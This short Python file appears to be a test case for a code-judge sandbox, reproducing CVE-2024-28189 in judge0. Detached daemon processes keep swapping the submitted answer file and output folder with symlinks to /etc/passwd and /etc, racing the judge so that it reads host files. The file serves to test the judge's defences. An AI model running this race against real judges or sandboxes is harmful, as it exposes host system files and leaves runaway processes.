# what: has daemons swap its answer for links and folders while it is looked at: CVE-2024-28189 (judge0)
# expect: ACCEPTED or WRONG_ANSWER
# leaves: out/answer
import os
import time

os.mkdir("out")
with open("out/answer", "w") as file:
    file.write("contained\n")
os.symlink("/etc/passwd", "link")
os.symlink("/etc", "etc")
for first, second in (("out/answer", "link"), ("out", "etc")):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            try:
                os.rename(first, f"{second}.kept")
                os.rename(second, first)
                os.rename(first, second)
                os.rename(f"{second}.kept", first)
            except OSError:
                pass
time.sleep(0.05)
